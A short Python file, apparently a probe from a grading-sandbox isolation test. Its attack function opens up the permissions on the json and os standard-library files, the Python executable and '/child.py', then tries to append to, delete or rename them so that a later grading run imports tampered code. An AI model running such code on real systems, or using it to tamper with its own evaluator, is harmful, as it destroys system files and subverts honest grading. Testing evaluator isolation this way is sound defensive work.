"""Change the library that the next grade imports."""


def attack(sample, item):
    import json
    import os
    import sys

    for path in (json.__file__, os.__file__, sys.executable, "/child.py"):
        try:
            os.chmod(path, 0o777)
        except Exception:
            pass
        for change in (lambda p: open(p, "ab").close(), os.unlink, lambda p: os.rename(p, p + ".old")):
            try:
                change(path)
                return True
            except Exception:
                pass
    return False
